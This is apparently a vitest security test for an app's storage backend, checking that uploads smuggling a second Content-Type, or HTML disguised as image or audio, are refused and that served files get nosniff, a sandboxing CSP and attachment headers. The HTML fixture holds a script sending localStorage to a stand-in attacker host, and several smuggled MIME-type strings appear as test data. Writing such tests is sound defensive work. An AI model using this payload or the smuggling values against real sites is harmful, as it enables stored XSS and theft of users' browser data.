import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { signUp, sql, startTestServer, type TestServer, type TestUser } from './support/local-backend.ts'

// docs/security.md item 2 (stored XSS on the app's origin), as an outsider does it: raw HTTP uploads with an
// ordinary account, then downloads. The browser half (Chromium
// never runs a served object's script; the app's CSP) is tests/e2e/integrity-xss.spec.ts.

let server: TestServer
let mallory: TestUser

beforeAll(async () => {
  server = await startTestServer()
  mallory = await signUp(server, `mallory-${Date.now()}@example.com`)
}, 60_000)
afterAll(() => server?.close())

const HTML = Buffer.from('<!doctype html><script>fetch("https://evil.example/?" + JSON.stringify(localStorage))</script>')
const PNG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d, 0x49, 0x48, 0x44, 0x52])

/** A raw upload, exactly the headers an attacker chooses (fetch would normalise nothing here either). */
async function upload(bucket: string, path: string, body: Buffer, contentType: string, upsert = true) {
  const response = await fetch(`${server.url}/storage/v1/object/${bucket}/${path}`, {
    method: 'POST',
    headers: {
      apikey: server.keys.anonKey,
      Authorization: `Bearer ${mallory.accessToken}`,
      'Content-Type': contentType,
      'x-upsert': String(upsert),
    },
    body: new Uint8Array(body),
  })
  return { status: response.status, json: (await response.json()) as { statusCode?: string; message?: string } }
}
// Avatars are read through RLS (a private profile's avatar reaches nobody else), so the owner
// downloads through the authenticated route; the headers are the same on every read route.
const download = (bucket: string, path: string) =>
  fetch(`${server.url}/storage/v1/object/authenticated/${bucket}/${path}`, {
    headers: { apikey: server.keys.anonKey, Authorization: `Bearer ${mallory.accessToken}` },
  })
const stored = (bucket: string, path: string) =>
  sql<{ mimetype: string }>(server, "select metadata->>'mimetype' as mimetype from storage.objects where bucket_id = $1 and name = $2", [
    bucket,
    path,
  ])

describe('Storage refuses what a browser would run', () => {
  it('refuses a Content-Type that smuggles a second type after the allowed one (image/png;, text/html)', async () => {
    for (const type of [
      'image/png;, text/html',
      'image/png, text/html',
      'image/png;charset=utf-8, text/html',
      'image/png; x',
      'text/html; image/png',
    ]) {
      const answer = await upload('avatars', `${mallory.id}/avatar`, PNG, type)
      expect(answer.status, type).toBe(400)
      expect(answer.json, type).toMatchObject({ statusCode: '415', message: expect.stringMatching(/^mime type .* is not supported: /) })
    }
    expect(await stored('avatars', `${mallory.id}/avatar`)).toEqual([])
  })

  it('refuses an HTML page declared as image/png, and audio declared over bytes that are not audio', async () => {
    const image = await upload('avatars', `${mallory.id}/avatar`, HTML, 'image/png')
    expect(image.status).toBe(400)
    expect(image.json).toMatchObject({
      statusCode: '415',
      message:
        "mime type image/png is not supported: the file's bytes are not image/png (its first bytes do not match that format's signature)",
    })
    const audio = await upload('published-audio', `${mallory.id}/track.webm`, HTML, 'audio/webm')
    expect(audio.json).toMatchObject({ statusCode: '415', message: expect.stringMatching(/bytes are not audio\/webm/) })
    expect(await stored('avatars', `${mallory.id}/avatar`)).toEqual([])
    expect(await stored('published-audio', `${mallory.id}/track.webm`)).toEqual([])
  })

  it('serves a checked image inline with nosniff and its canonical type; anything else as a sandboxed download', async () => {
    expect((await upload('avatars', `${mallory.id}/avatar`, PNG, 'IMAGE/PNG ; name="a;b"')).status).toBe(200)
    const image = await download('avatars', `${mallory.id}/avatar`)
    expect(image.status).toBe(200)
    expect(image.headers.get('content-type')).toBe('image/png; name="a;b"')
    expect(image.headers.get('x-content-type-options')).toBe('nosniff')
    expect(image.headers.get('content-disposition')).toBeNull()

    // A type stored before types were parsed (or by any other path) is never served as given.
    await sql(
      server,
      "update storage.objects set metadata = jsonb_set(metadata, '{mimetype}', '\"image/png;, text/html\"') where " +
        "bucket_id = 'avatars' and name = $1",
      [`${mallory.id}/avatar`],
    )
    const legacy = await download('avatars', `${mallory.id}/avatar`)
    expect(legacy.headers.get('content-type')).toBe('application/octet-stream')
    expect(legacy.headers.get('x-content-type-options')).toBe('nosniff')
    expect(legacy.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox")
    expect(legacy.headers.get('content-disposition')).toBe('attachment')
  })

  it('serves non-media objects (JSON in studio-audio) with nosniff, a sandboxing CSP and as an attachment', async () => {
    const path = `${mallory.id}/project/manifest.json`
    expect((await upload('studio-audio', path, Buffer.from('{"tracks": []}'), 'application/json')).status).toBe(200)
    const response = await fetch(`${server.url}/storage/v1/object/studio-audio/${path}`, {
      headers: { apikey: server.keys.anonKey, Authorization: `Bearer ${mallory.accessToken}` },
    })
    expect(response.status).toBe(200)
    expect(await response.text()).toBe('{"tracks": []}')
    expect(response.headers.get('content-type')).toBe('application/json')
    expect(response.headers.get('x-content-type-options')).toBe('nosniff')
    expect(response.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox")
    expect(response.headers.get('content-disposition')).toBe('attachment')
  })
})
